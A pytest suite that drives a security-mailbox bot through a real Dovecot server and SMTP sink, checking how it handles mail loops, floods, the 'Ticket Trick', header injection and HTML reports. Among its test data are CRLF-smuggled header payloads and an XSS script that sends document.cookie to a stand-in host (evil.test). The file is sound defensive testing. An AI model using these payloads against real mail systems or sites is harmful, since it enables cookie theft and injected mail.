"""Hostile input end to end: real Dovecot (LMTP delivery, IMAP reading), a real SMTP sink, SQLite.

Every test names one threat to a bot that answers a security mailbox unattended for months:
automatic mail and mail loops (RFC 3834), floods, header injection, address confusion, the
"Ticket Trick", messages built to exhaust the parser, and attachment names built to escape a
directory. Each delivers the way an MTA does (LMTP), lets mailbot run, and then looks at what
mailbot recorded and at every byte that reached the SMTP server.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import smtplib
import tempfile
import threading
import time
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default as default_policy
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from sqlalchemy import select

from mailbot.app import App, CycleReport
from mailbot.cases.models import Case, Event, Message, Outbox
from mailbot.clock import FixedClock
from mailbot.mail.message import LOOP_HEADER
from mailbot.mail.parse import parse_message
from tests import factories
from tests.servers import free_port
from tests.servers.dovecot import ImapAccount, ImapTestServer
from tests.servers.smtp_sink import ReceivedMail, SmtpSink

OWN = "security@example.test"  # smtp.from of the test settings: mailbot's own address
TEAM = ("alice@team.example.test", "oncall@team.example.test")
TEAM_DOMAIN = factories.TEAM_DOMAIN

# Everything mailbot writes: compose() sets exactly these fields, no more (an injected header
# would be one more name) and none twice.
COMPOSED_HEADERS = {
    "from",
    "to",
    "subject",
    "date",
    "message-id",
    "in-reply-to",
    "references",
    "auto-submitted",
    LOOP_HEADER.lower(),
    "x-auto-response-suppress",
    "mime-version",
    "content-type",
    "content-transfer-encoding",
}


# ---------------------------------------------------------------------------------------------
# Helpers


def mail(*fields: str | bytes, body: str | bytes = "Details of the issue.\r\n") -> bytes:
    """A message exactly as written: header lines (CRLF added) and the body."""
    head = b"".join((f if isinstance(f, bytes) else f.encode("utf-8")) + b"\r\n" for f in fields)
    return head + b"\r\n" + (body if isinstance(body, bytes) else body.encode("utf-8"))


def report(
    sender: str,
    subject: str = "XSS in the login form",
    *extra: str | bytes,
    message_id: str,
    body: str | bytes = "The login form reflects the next parameter.\r\n",
) -> bytes:
    return mail(
        f"From: {sender}",
        f"To: {OWN}",
        f"Subject: {subject}",
        "Date: Mon, 02 Nov 2026 10:15:00 +0100",
        f"Message-ID: {message_id}",
        *extra,
        body=body,
    )


def deliver(account: ImapAccount, raw: bytes, sender: str = "rita@reporter.example") -> None:
    assert account.server is not None
    account.server.deliver(account, raw, sender=sender)


def deliver_many(account: ImapAccount, raws: list[bytes], sender: str) -> None:
    """One LMTP session for all of them: a flood arrives as fast as an MTA can hand it over."""
    assert account.lmtp_port is not None
    with smtplib.LMTP(account.host, account.lmtp_port, timeout=30) as lmtp:
        for raw in raws:
            refused = lmtp.sendmail(sender, [account.username], raw)
            assert not refused


def run_once(app: App) -> CycleReport:
    """One cycle; the SMTP server has kept every message it accepted by the time it returns."""
    return asyncio.run(app.run_once())


def all_cases(app: App) -> list[Case]:
    with app.db.session() as s:
        return list(s.scalars(select(Case).order_by(Case.id)))


def inbound(app: App, message_id: str) -> tuple[Case, Message]:
    """The case and the recorded message of the inbound mail with this Message-ID."""
    with app.db.session() as s:
        message = s.scalars(
            select(Message).where(Message.message_id == message_id, Message.direction == "in")
        ).one()
        case = s.get(Case, message.case_id)
        assert case is not None
        return case, message


def events(app: App, case_id: str) -> list[Event]:
    with app.db.session() as s:
        return list(s.scalars(select(Event).where(Event.case_id == case_id).order_by(Event.id)))


def outbox(app: App) -> list[Outbox]:
    with app.db.session() as s:
        return list(s.scalars(select(Outbox).order_by(Outbox.id)))


def texts_of(received: ReceivedMail) -> list[str]:
    """Everything a reader of this mail could see: subject, every decoded text part, raw bytes."""
    out = [str(received.message["Subject"] or ""), received.data.decode("utf-8", "replace")]
    for part in received.message.walk():
        if part.is_multipart():
            continue
        payload = part.get_payload(decode=True)
        if isinstance(payload, bytes):
            out.append(payload.decode("utf-8", "replace"))
    return out


def is_team(address: str) -> bool:
    address = address.lower()
    return address in TEAM or address.rpartition("@")[2] == TEAM_DOMAIN


def header_names(received: ReceivedMail) -> list[str]:
    parsed = message_from_bytes(received.data, policy=default_policy)
    return [name.lower() for name in parsed]


def body_lines(received: ReceivedMail) -> list[str]:
    body = received.message.get_body(("plain",))
    assert body is not None
    return str(body.get_content()).splitlines()


@pytest.fixture
def clock() -> FixedClock:
    return FixedClock(datetime.now(UTC))


def make_bot(
    tmp_path: Path,
    account: ImapAccount,
    sink: SmtpSink | Responder,
    clock: FixedClock,
    **policy: Any,
) -> App:
    settings = factories.settings(
        tmp_path, account.mailbox_settings(), sink.smtp_settings(), **policy
    )
    return factories.app(settings, clock)


@pytest.fixture
def bot(
    tmp_path: Path, imap_account: ImapAccount, smtp_sink: SmtpSink, clock: FixedClock
) -> Iterator[App]:
    app = make_bot(tmp_path, imap_account, smtp_sink, clock)
    yield app
    app.close()


# ---------------------------------------------------------------------------------------------
# RFC 3834: automatic mail is recorded, flagged and never answered.
#
# All variants go into one mailbox in one pass (with two ordinary reports as controls, which
# must be answered), then each variant is its own named test against that one result.


@dataclass(frozen=True)
class Variant:
    fields: tuple[str, ...] = ()
    sender: str = ""  # the From; "" = a unique ordinary address
    envelope: str | None = None  # the LMTP MAIL FROM; None = the From address
    body: str = "Details of the issue.\r\n"
    flag: str = "automatic"


DSN_BODY = (
    "--b\r\nContent-Type: text/plain\r\n\r\nDelivery to the following recipient failed.\r\n"
    "--b\r\nContent-Type: message/delivery-status\r\n\r\n"
    "Reporting-MTA: dns; mx.reporter.example\r\n\r\n"
    "Final-Recipient: rfc822; gone@reporter.example\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
    "--b--\r\n"
)
MDN_BODY = (
    "--b\r\nContent-Type: text/plain\r\n\r\nYour message was displayed.\r\n"
    "--b\r\nContent-Type: message/disposition-notification\r\n\r\n"
    "Final-Recipient: rfc822; rita@reporter.example\r\n"
    "Disposition: manual-action/MDN-sent-manually; displayed\r\n\r\n--b--\r\n"
)

AUTOMATIC: dict[str, Variant] = {
    # Auto-Submitted: every value but "no" (RFC 3834 5), however it is written.
    "auto-submitted-auto-generated": Variant(("Auto-Submitted: auto-generated",)),
    "auto-submitted-auto-replied": Variant(("Auto-Submitted: auto-replied",)),
    "auto-submitted-auto-notified": Variant(
        ("Auto-Submitted: auto-notified; owner-email=owner@lists.example",)
    ),
    "auto-submitted-upper-case-with-comment": Variant(("Auto-Submitted: AUTO-REPLIED (vacation)",)),
    "auto-submitted-unknown-keyword": Variant(("Auto-Submitted: auto-something-new",)),
    "auto-submitted-empty": Variant(("Auto-Submitted:",)),
    "auto-submitted-encoded-word": Variant(("Auto-Submitted: =?utf-8?q?auto-replied?=",)),
    # Precedence.
    "precedence-bulk": Variant(("Precedence: bulk",)),
    "precedence-junk": Variant(("Precedence: junk",)),
    "precedence-list": Variant(("Precedence: list",)),
    "precedence-upper-case": Variant(("Precedence: BULK",)),
    # Any List-* field (RFC 2369, 2919, 8058).
    "list-id": Variant(("List-Id: Announcements <announce.lists.example>",)),
    "list-unsubscribe": Variant(("List-Unsubscribe: <mailto:leave@lists.example>",)),
    "list-unsubscribe-post": Variant(("List-Unsubscribe-Post: List-Unsubscribe=One-Click",)),
    "list-post": Variant(("List-Post: <mailto:announce@lists.example>",)),
    "list-help": Variant(("List-Help: <mailto:help@lists.example>",)),
    "list-subscribe": Variant(("List-Subscribe: <mailto:join@lists.example>",)),
    "list-owner": Variant(("List-Owner: <mailto:owner@lists.example>",)),
    "list-archive": Variant(("List-Archive: <https://lists.example/archive/>",)),
    # Exchange and Outlook.
    "x-auto-response-suppress-all": Variant(("X-Auto-Response-Suppress: All",)),
    "x-auto-response-suppress-oof": Variant(("X-Auto-Response-Suppress: DR, RN, NRN, OOF",)),
    # A null reverse path: Dovecot writes "Return-Path: <>" for MAIL FROM:<>.
    "null-return-path": Variant(envelope=""),
    # Bounce senders, any spelling, any domain.
    "mailer-daemon": Variant(sender="MAILER-DAEMON@mx.reporter.example"),
    "mailer-daemon-display-name": Variant(
        sender="Mail Delivery System <mailer-daemon@mx.reporter.example>"
    ),
    "postmaster": Variant(sender="postmaster@reporter.example"),
    "postmaster-upper-case": Variant(sender="Postmaster <POSTMASTER@Reporter.Example>"),
    # Delivery and read reports, from a sender that looks like anybody.
    "multipart-report-delivery-status": Variant(
        (
            "MIME-Version: 1.0",
            'Content-Type: multipart/report; report-type=delivery-status; boundary="b"',
        ),
        body=DSN_BODY,
    ),
    "multipart-report-read-receipt": Variant(
        (
            "MIME-Version: 1.0",
            'Content-Type: multipart/report; report-type=disposition-notification; boundary="b"',
        ),
        body=MDN_BODY,
    ),
    # Our own mail coming back: our loop header, or our own address in From.
    "our-loop-header": Variant((f"{LOOP_HEADER}: {OWN}",), flag="own-mail"),
    "our-own-address-in-from": Variant(sender=f"Example Security <{OWN}>", flag="own-mail"),
    "our-own-address-in-other-case": Variant(sender="SECURITY@Example.TEST", flag="own-mail"),
}
CONTROLS = {
    "ordinary-report": Variant(),
    "auto-submitted-no": Variant(("Auto-Submitted: no",)),
    "auto-submitted-no-with-comment": Variant(("Auto-Submitted: No (a person wrote this)",)),
}


def variant_sender(name: str, variant: Variant) -> str:
    return variant.sender or f"{name}@reporter.example"


def variant_id(name: str) -> str:
    return f"<{name}@reporter.example>"


@dataclass
class BatchRun:
    """Many hostile messages and their controls through one mailbox in one pass."""

    bot: App
    sink: SmtpSink


@contextlib.contextmanager
def batch_run(
    server: ImapTestServer, tmp: Path, messages: list[tuple[bytes, str]], expected_receipts: int
) -> Iterator[BatchRun]:
    """Deliver ``(raw, envelope sender)`` pairs, run mailbot once, wait for the receipts."""
    account = server.add_user()
    sink = SmtpSink()
    sink.start()
    app = make_bot(tmp, account, sink, FixedClock(datetime.now(UTC)))
    try:
        for raw, envelope in messages:
            deliver(account, raw, sender=envelope)
        run_once(app)
        sink.wait_for(expected_receipts)
        yield BatchRun(app, sink)
    finally:
        app.close()
        sink.stop()


def rfc3834_message(name: str, variant: Variant) -> tuple[bytes, str]:
    sender = variant_sender(name, variant)
    raw = report(
        sender, f"Re: {name}", *variant.fields, message_id=variant_id(name), body=variant.body
    )
    envelope = variant.envelope
    if envelope is None:
        envelope = sender.rpartition("<")[2].rstrip(">")
    return raw, envelope


@pytest.fixture(scope="module")
def rfc3834_run(
    dovecot_server: ImapTestServer, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[BatchRun]:
    variants = {**AUTOMATIC, **CONTROLS}
    messages = [rfc3834_message(name, variant) for name, variant in variants.items()]
    with batch_run(
        dovecot_server, tmp_path_factory.mktemp("rfc3834"), messages, len(CONTROLS)
    ) as run:
        yield run


SIGNS = {
    "auto-submitted": "Auto-Submitted:",
    "precedence": "Precedence:",
    "list": "List-",
    "x-auto-response-suppress": "X-Auto-Response-Suppress:",
    "null-return-path": "Return-Path: <>",
    "mailer-daemon": "From:",
    "postmaster": "From:",
    "multipart-report": "multipart/report part",
    "our-loop-header": f"{LOOP_HEADER}:",
    "our-own-address": "our own address",
}


def expected_sign(name: str) -> str:
    return next(sign for prefix, sign in SIGNS.items() if name.startswith(prefix))


@pytest.mark.parametrize("name", sorted(AUTOMATIC))
def test_rfc3834_automatic_mail_is_recorded_flagged_and_never_answered(
    rfc3834_run: BatchRun, name: str
) -> None:
    variant = AUTOMATIC[name]
    case, message = inbound(rfc3834_run.bot, variant_id(name))

    assert variant.flag in case.flags
    assert variant.flag in message.flags
    assert case.ack_due is None  # automatic mail is promised nothing
    assert message.raw_id is not None  # still recorded, bytes and all
    [why] = [
        e.detail["reason"] for e in events(rfc3834_run.bot, case.id) if e.action == "no-receipt"
    ]
    assert why.startswith(("automatic mail", "our own mail"))
    assert expected_sign(name) in why  # the sign this variant carries is what was seen
    answered = {r.rcpt_tos for r in rfc3834_run.sink.received}
    assert (variant_sender(name, variant).rpartition("<")[2].rstrip(">").lower(),) not in answered
    assert not [o for o in outbox(rfc3834_run.bot) if o.case_id == case.id]


@pytest.mark.parametrize("name", sorted(CONTROLS))
def test_rfc3834_ordinary_mail_in_the_same_pass_is_answered_once(
    rfc3834_run: BatchRun, name: str
) -> None:
    case, _ = inbound(rfc3834_run.bot, variant_id(name))

    assert "automatic" not in case.flags
    mine = [r for r in rfc3834_run.sink.received if r.rcpt_tos == (case.reporter,)]
    assert len(mine) == 1
    assert mine[0].mail_from == "<>"


def test_rfc3834_only_the_controls_were_answered(rfc3834_run: BatchRun) -> None:
    assert len(all_cases(rfc3834_run.bot)) == len(AUTOMATIC) + len(CONTROLS)
    assert sorted(r.rcpt_tos[0] for r in rfc3834_run.sink.received) == sorted(
        f"{name}@reporter.example" for name in CONTROLS
    )


# ---------------------------------------------------------------------------------------------
# Ping-pong with a real auto-responder on loopback


class Responder:
    """A naive out-of-office robot behind its own SMTP server (aiosmtpd on 127.0.0.1).

    It answers every message it receives, whatever its headers say (no RFC 3834 checks of its
    own), by writing an out-of-office reply to the message's From address and delivering it the
    way its MTA would: over LMTP into the mailbox that address belongs to. Only mailbot's address
    has a mailbox here; a reply to anybody else is kept in ``undeliverable``.

    ``polite``: the reply says what it is (Auto-Submitted: auto-replied) and threads under the
    message it answers. Rude: no header beyond From, To, Subject, Date and Message-ID.
    ``keep_subject``: "Out of office: <their subject>", else a fixed "Out of office".
    """

    def __init__(self, mailbox: ImapAccount, *, polite: bool, keep_subject: bool = True) -> None:
        self.mailbox = mailbox
        self.polite = polite
        self.keep_subject = keep_subject
        self.received: list[EmailMessage] = []
        self.envelopes: list[tuple[str, tuple[str, ...]]] = []
        self.sent: list[bytes] = []
        self.undeliverable: list[str] = []
        self._lock = threading.Lock()
        self.port = free_port()
        self._controller = Controller(self, hostname="127.0.0.1", port=self.port)

    def __enter__(self) -> Responder:
        self._controller.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._controller.stop()

    def smtp_settings(self) -> Any:
        from mailbot.config import SmtpSettings

        return SmtpSettings(
            host="127.0.0.1",
            port=self.port,
            security="none",
            from_address=f"Example Security <{OWN}>",
            timeout_seconds=5,
        )

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        original = message_from_bytes(envelope.original_content, policy=default_policy)
        assert isinstance(original, EmailMessage)
        with self._lock:
            self.received.append(original)
            self.envelopes.append((envelope.mail_from, tuple(envelope.rcpt_tos)))
        away = envelope.rcpt_tos[0]
        answer_to = original["From"].addresses[0].addr_spec.lower()
        reply = self._reply(original, away)
        if answer_to != OWN:
            with self._lock:
                self.undeliverable.append(answer_to)
            return "250 OK"
        await asyncio.to_thread(deliver, self.mailbox, reply, away)
        with self._lock:
            self.sent.append(reply)
        return "250 OK"

    def _reply(self, original: EmailMessage, away: str) -> bytes:
        subject = f"Out of office: {original['Subject']}" if self.keep_subject else "Out of office"
        fields = [
            f"From: {away}",
            f"To: {original['From']}",
            f"Subject: {subject}",
            f"Date: {datetime.now(UTC):%a, %d %b %Y %H:%M:%S +0000}",
            f"Message-ID: <ooo-{len(self.sent)}.{time.monotonic_ns()}@reporter.example>",
        ]
        if self.polite:
            fields += [
                "Auto-Submitted: auto-replied",
                f"In-Reply-To: {original['Message-ID']}",
                f"References: {original['Message-ID']}",
            ]
        return mail(*fields, body="I am away until Monday and will read your mail then.\r\n")


@pytest.mark.parametrize(
    ("polite", "why"),
    [(True, "references <SEC-"), (False, "subject tag [SEC-")],
    ids=["polite-responder", "rude-responder"],
)
def test_ping_pong_with_an_auto_responder_ends_after_one_receipt(
    tmp_path: Path, imap_account: ImapAccount, clock: FixedClock, polite: bool, why: str
) -> None:
    with Responder(imap_account, polite=polite) as responder:
        bot = make_bot(tmp_path, imap_account, responder, clock)
        try:
            deliver(imap_account, report("Rita <rita@reporter.example>", message_id="<r1@x>"))
            for _ in range(6):
                run_once(bot)
                clock.advance(timedelta(minutes=1))
        finally:
            bot.close()

    # One receipt went out, with every mark that says "do not answer me"; the robot answered it
    # anyway, exactly once; and that answer, threaded onto the case, got nothing back.
    [receipt] = responder.received
    assert responder.envelopes == [("<>", ("rita@reporter.example",))]
    assert receipt["Auto-Submitted"] == "auto-replied"
    assert receipt[LOOP_HEADER] == OWN
    assert receipt["X-Auto-Response-Suppress"] == "All"
    assert len(responder.sent) == 1
    assert responder.undeliverable == []
    [case] = all_cases(bot)
    with bot.db.session() as s:
        messages = list(s.scalars(select(Message).order_by(Message.id)))
    assert [(m.direction, m.kind) for m in messages] == [
        ("in", "report"),
        ("out", "receipt"),
        ("in", "automatic" if polite else "follow-up"),
    ]
    # Where it stops, and why: the out-of-office joined the case (by our receipt's Message-ID,
    # or, from the rude one, by the case tag it echoed from the case's own reporter), and only a
    # new case is ever answered.
    assert messages[2].case_id == case.id
    assert str(messages[2].details["correlation"]).startswith(why)
    assert [o.kind for o in outbox(bot)] == ["receipt"]


def test_ping_pong_with_a_responder_that_drops_the_thread_stops_at_the_per_sender_limit(
    tmp_path: Path, imap_account: ImapAccount, clock: FixedClock
) -> None:
    """The worst robot: no headers, a subject of its own, no thread. Each of its answers looks
    exactly like a new report from the reporter, so it opens a case; what stops the exchange is
    the per-sender receipt limit (and the exchange never resumes on its own: it needs a receipt
    to answer, and the last case it opened got none)."""
    limit = 3
    with Responder(imap_account, polite=False, keep_subject=False) as responder:
        bot = make_bot(tmp_path, imap_account, responder, clock, receipts_per_sender_per_day=limit)
        try:
            deliver(imap_account, report("Rita <rita@reporter.example>", message_id="<r1@x>"))
            for _ in range(limit + 4):
                run_once(bot)
                clock.advance(timedelta(minutes=1))
        finally:
            bot.close()

    assert len(responder.received) == limit
    assert len(responder.sent) == limit
    cases = all_cases(bot)
    assert len(cases) == limit + 1
    assert "rate-limited" in cases[-1].flags
    assert [o.kind for o in outbox(bot)] == ["receipt"] * limit


# ---------------------------------------------------------------------------------------------
# The per-sender receipt limit


@pytest.mark.slow  # about 25 s: a thousand messages through the whole pipeline
def test_a_flood_of_a_thousand_reports_opens_a_thousand_cases_and_sends_at_most_the_limit(
    bot: App, imap_account: ImapAccount, smtp_sink: SmtpSink
) -> None:
    flood = [
        report(
            "Flo Oder <flood@reporter.example>",
            f"Bug number {i}",
            message_id=f"<flood-{i}@x>",
            body=f"Report {i}.\r\n",
        )
        for i in range(1000)
    ]
    deliver_many(imap_account, flood, sender="flood@reporter.example")

    started = time.perf_counter()
    result = run_once(bot)
    elapsed = time.perf_counter() - started

    limit = bot.settings.policy.receipts_per_sender_per_day
    assert result.intake.opened == 1000
    cases = all_cases(bot)
    assert len(cases) == 1000
    answered = [c for c in cases if "rate-limited" not in c.flags]
    assert len(answered) == limit
    assert all(c.reporter == "flood@reporter.example" for c in cases)
    received = smtp_sink.wait_for(limit)
    assert len(smtp_sink.received) == limit
    assert {r.rcpt_tos for r in received} == {("flood@reporter.example",)}
    assert len([o for o in outbox(bot) if o.kind == "receipt"]) == limit
    # The limited cases still run their clocks: a person must still read every report.
    assert all(c.ack_due is not None for c in cases)
    assert elapsed < 120


def test_a_burst_from_one_sender_gets_receipts_up_to_the_limit_and_flags_the_rest(
    tmp_path: Path, imap_account: ImapAccount, smtp_sink: SmtpSink, clock: FixedClock
) -> None:
    """The flood above in small, for every run of the suite."""
    bot = make_bot(tmp_path, imap_account, smtp_sink, clock, receipts_per_sender_per_day=2)
    burst = [
        report("flood@reporter.example", f"Bug {i}", message_id=f"<burst-{i}@x>") for i in range(8)
    ]
    deliver_many(imap_account, burst, sender="flood@reporter.example")
    deliver(imap_account, report("other@reporter.example", message_id="<other@x>"))
    try:
        run_once(bot)
        clock.advance(timedelta(hours=1))
        deliver(imap_account, report("flood@reporter.example", "One more", message_id="<b9@x>"))
        run_once(bot)
        limited = [c.id for c in all_cases(bot) if "rate-limited" in c.flags]
        assert len(all_cases(bot)) == 10
        assert len(limited) == 7
        receipts = smtp_sink.wait_for(3)
        assert sorted(r.rcpt_tos[0] for r in smtp_sink.received) == [
            "flood@reporter.example",
            "flood@reporter.example",
            "other@reporter.example",
        ]
        assert len(receipts) == 3
        for case_id in limited:
            [why] = [e.detail["reason"] for e in events(bot, case_id) if e.action == "no-receipt"]
            assert "already had 2 receipts in 24 hours" in why
        # A day later the sender is answered again.
        clock.advance(timedelta(days=1))
        deliver(imap_account, report("flood@reporter.example", "Next day", message_id="<b10@x>"))
        run_once(bot)
        assert len(smtp_sink.wait_for(4)) == 4
    finally:
        bot.close()


# ---------------------------------------------------------------------------------------------
# The "Ticket Trick": someone signs up to a service with security@ as their address, and the
# service's verification mail lands in the security mailbox. Whoever can read what the mailbox
# sends back (the service, or an attacker whose address the service put in From or Reply-To)
# must never see the code or the link.

CODE = "493817"
LINK = "https://service.example/confirm/Zx9QpL2kTt"
VERIFICATION_BODY = (
    f"Confirm your email address to finish setting up your workspace.\r\n\r\n"
    f"Your confirmation code: {CODE}\r\n\r\nOr open {LINK}\r\n"
)
TICKET_TRICK = {
    "noreply-sender-no-auto-headers": (
        "Service <noreply@service.example>",
        ("Reply-To: Eve <eve@attacker.example>",),
    ),
    "noreply-sender-with-auto-headers": (
        "Service <no-reply@service.example>",
        ("Auto-Submitted: auto-generated", "X-Auto-Response-Suppress: All"),
    ),
    "bulk-mail-service": (
        "Service <accounts@service.example>",
        ("Precedence: bulk", "List-Unsubscribe: <https://service.example/unsubscribe>"),
    ),
    "person-like-sender-no-auto-headers": (
        "Service Accounts <accounts@service.example>",
        ("Reply-To: eve@attacker.example", "Cc: eve@attacker.example"),
    ),
    "sent-on-behalf-of-the-attacker": (
        "Eve via Service <eve@attacker.example>",
        ("Sender: notifications@service.example",),
    ),
}


@pytest.mark.parametrize("name", sorted(TICKET_TRICK))
def test_ticket_trick_verification_mail_is_never_mailed_out(
    bot: App, imap_account: ImapAccount, smtp_sink: SmtpSink, clock: FixedClock, name: str
) -> None:
    sender, extra = TICKET_TRICK[name]
    raw = report(
        sender,
        f"Confirm your Service workspace: code {CODE}",
        *extra,
        message_id=f"<verify-{name}@service.example>",
        body=VERIFICATION_BODY,
    )
    deliver(imap_account, raw, sender="bounces+x@service.example")

    run_once(bot)
    clock.advance(timedelta(days=30))  # and let every deadline pass: escalations go out too
    run_once(bot)

    [case] = all_cases(bot)
    assert case.subject == f"Confirm your Service workspace: code {CODE}"  # kept, for the team
    for received in smtp_sink.received:
        outside = [r for r in received.rcpt_tos if not is_team(r)]
        if not outside:
            continue  # the team may see it; only the team
        assert outside == [case.reporter]  # never Reply-To, Cc or Sender
        for text in texts_of(received):
            assert CODE not in text
            assert "Zx9QpL2kTt" not in text
    assert all(
        "attacker.example" not in r or case.reporter.endswith("attacker.example")
        for m in smtp_sink.received
        for r in m.rcpt_tos
    )


# ---------------------------------------------------------------------------------------------
# Header injection: reporter text in every field a template uses


def b64(text: str) -> str:
    import base64

    return base64.b64encode(text.encode("utf-8")).decode("ascii")


# (From, Subject) as raw header values; each tries to add a header or a body line. Every payload
# carries the word INJECTED, so wherever it lands can be found.
INJECTIONS: dict[str, tuple[bytes, bytes]] = {
    "subject-encoded-crlf": (
        b"Rita <inj1@reporter.example>",
        b"=?utf-8?q?hello=0D=0ABcc:_victim=40evil.test=0D=0AX-INJECTED:_crlf?=",
    ),
    "subject-encoded-lf": (
        b"Rita <inj2@reporter.example>",
        f"=?utf-8?b?{b64('hello' + chr(10) + 'X-INJECTED: lf')}?=".encode(),
    ),
    "subject-encoded-bare-cr": (
        b"Rita <inj3@reporter.example>",
        b"=?utf-8?q?hello=0DX-INJECTED:_cr?=",
    ),
    "subject-encoded-nul": (
        b"Rita <inj4@reporter.example>",
        b"=?utf-8?q?hello=00X-INJECTED:_nul?=",
    ),
    "subject-encoded-u2028-u2029": (
        b"Rita <inj5@reporter.example>",
        b"=?utf-8?q?hello=E2=80=A8X-INJECTED:_u2028=E2=80=A9X-INJECTED:_u2029?=",
    ),
    "subject-raw-u2028": (
        b"Rita <inj6@reporter.example>",
        "hello\u2028X-INJECTED: raw u2028".encode(),
    ),
    "subject-raw-bare-cr": (
        b"Rita <inj7@reporter.example>",
        b"hello INJECTED\rX-INJECTED: raw cr",
    ),
    "subject-blank-line-then-body": (
        b"Rita <inj8@reporter.example>",
        b"=?utf-8?q?hi=0D=0A=0D=0AINJECTED:_open_https://evil.test/reset?=",
    ),
    "subject-nested-encoded-word": (
        b"Rita <inj9@reporter.example>",
        b"=?utf-8?q?=3D=3Futf-8=3Fq=3Fa=3D0D=3D0AX-INJECTED=3A=5Fnested=3F=3D?=",
    ),
    "name-encoded-crlf": (
        b"=?utf-8?q?Rita=0D=0A=0D=0AINJECTED_please_reply_with_your_password?= "
        b"<inj10@reporter.example>",
        b"A report",
    ),
    "name-quoted-encoded-lf": (
        f'"=?utf-8?b?{b64("Rita" + chr(10) + "INJECTED quoted")}?=" '
        "<inj11@reporter.example>".encode(),
        b"A report",
    ),
    "name-encoded-nul-and-bare-cr": (
        b"=?utf-8?q?Rita=00=0DINJECTED_nul?= <inj12@reporter.example>",
        b"A report",
    ),
    "name-raw-u2028": (
        "Rita\u2028INJECTED raw name <inj13@reporter.example>".encode(),
        b"A report",
    ),
    "name-raw-rtl-override": (
        "Rita \u202eINJECTED rtl\u202c <inj14@reporter.example>".encode(),
        b"A report",
    ),
    "name-with-a-header-in-it": (
        b"Rita Bcc: victim@evil.test INJECTED <inj15@reporter.example>",
        b"A report",
    ),
}


def injection_report(name: str) -> bytes:
    sender, subject = INJECTIONS[name]
    return (
        b"From: " + sender + b"\r\nTo: " + OWN.encode() + b"\r\nSubject: " + subject + b"\r\n"
        b"Date: Mon, 02 Nov 2026 10:15:00 +0100\r\nMessage-ID: <"
        + name.encode()
        + b"@reporter.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        b"The login form reflects the next parameter.\r\n"
    )


def test_header_injection_through_subject_and_display_name_never_adds_a_header_or_line(
    bot: App, imap_account: ImapAccount, smtp_sink: SmtpSink, clock: FixedClock
) -> None:
    deliver(imap_account, report("Rita <control@reporter.example>", message_id="<control@x>"))
    for name in INJECTIONS:
        deliver(imap_account, injection_report(name))

    run_once(bot)  # receipts to every reporter with a usable address
    clock.advance(timedelta(days=30))
    run_once(bot)  # an escalation per case to on-call, with the reporter's name and subject

    cases = all_cases(bot)
    assert len(cases) == len(INJECTIONS) + 1
    answerable = [c for c in cases if c.reporter]
    # Every subject survives as one line of text. A display name either survives as one line
    # too, or (a line break that the header parser refuses, a colon that makes a group) leaves
    # no usable From at all: then nobody is answered.
    for case in cases[1:]:
        assert "INJECTED" in case.subject + case.reporter_name or "no-sender" in case.flags
    assert len([c for c in answerable if "INJECTED" in c.subject]) >= 8
    assert len([c for c in answerable if "INJECTED" in c.reporter_name]) >= 2
    received = smtp_sink.wait_for(len(answerable) + len(cases))
    assert len(smtp_sink.received) == len(answerable) + len(cases)
    receipts = {r.rcpt_tos[0]: r for r in received if r.message["Auto-Submitted"] == "auto-replied"}
    escalations = [r for r in received if r.message["Auto-Submitted"] == "auto-generated"]
    assert set(receipts) == {c.reporter for c in answerable}
    assert {r.rcpt_tos for r in escalations} == {("oncall@team.example.test",)}
    control_receipt = receipts.pop("control@reporter.example")
    control_escalation = next(e for e in escalations if b"control@" in e.data)
    for sent in [*receipts.values(), *escalations]:
        is_receipt = sent.message["Auto-Submitted"] == "auto-replied"
        expected = COMPOSED_HEADERS - (set() if is_receipt else {"in-reply-to"})
        assert sorted(header_names(sent)) == sorted(expected)  # exactly these, each once
        assert [a.addr_spec for a in sent.message["To"].addresses] == list(sent.rcpt_tos)
        assert "INJECTED" not in str(sent.message["Subject"])
        control = control_receipt if is_receipt else control_escalation
        lines, control_lines = body_lines(sent), body_lines(control)
        assert len(lines) == len(control_lines)
        for line, control_line in zip(lines, control_lines, strict=True):
            if "INJECTED" in line:
                # Only inside the one line where the template puts the name or the subject.
                assert line.lstrip().startswith(("Hello Rita", "Reporter:", "Subject:"))
                assert line.split()[0] == control_line.split()[0]


SCRIPT = "<script>fetch('https://evil.test/?c='+document.cookie)</script>"
HTML_REPORT = mail(
    "From: Rita <rita@reporter.example>",
    f"To: {OWN}",
    f"Subject: <b>Stored XSS</b> {SCRIPT}",
    "Date: Mon, 02 Nov 2026 10:15:00 +0100",
    "Message-ID: <html-1@reporter.example>",
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    body=(
        "<html><head><style>body{display:none}</style>"
        f"{SCRIPT}</head><body><p>The comment field is not escaped.</p>"
        '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">PoC</a>'
        "<p>Payload: &lt;svg onload=alert(3)&gt;</p></body></html>\r\n"
    ),
)


def test_html_and_script_in_a_report_are_kept_as_data_and_never_rendered(
    bot: App, imap_account: ImapAccount, smtp_sink: SmtpSink, clock: FixedClock
) -> None:
    deliver(imap_account, HTML_REPORT)

    run_once(bot)
    clock.advance(timedelta(days=30))
    run_once(bot)

    case, message = inbound(bot, "<html-1@reporter.example>")
    # Kept byte for byte, as data.
    with bot.db.session() as s:
        assert message.raw_id is not None
        stored = bot.db.raw_store.get(s, message.raw_id)
    assert stored.endswith(HTML_REPORT)
    assert case.subject == f"<b>Stored XSS</b> {SCRIPT}"  # text, neither escaped nor stripped
    # The text a person reads is text: the tags are gone, nothing of the script ran or remains
    # as markup.
    text = parse_message(stored).text_body
    assert "The comment field is not escaped." in text
    assert "<script" not in text and "onerror" not in text and "<img" not in text
    # What went out: a receipt to the reporter, an escalation to on-call; plain text only, no
    # reporter markup anywhere in the receipt.
    sent = smtp_sink.wait_for(2)
    for mail_ in sent:
        assert [p.get_content_type() for p in mail_.message.walk()] == ["text/plain"]
    [receipt] = [m for m in sent if m.rcpt_tos == ("rita@reporter.example",)]
    for shown in texts_of(receipt):
        assert "<script" not in shown and "<b>" not in shown and "comment field" not in shown
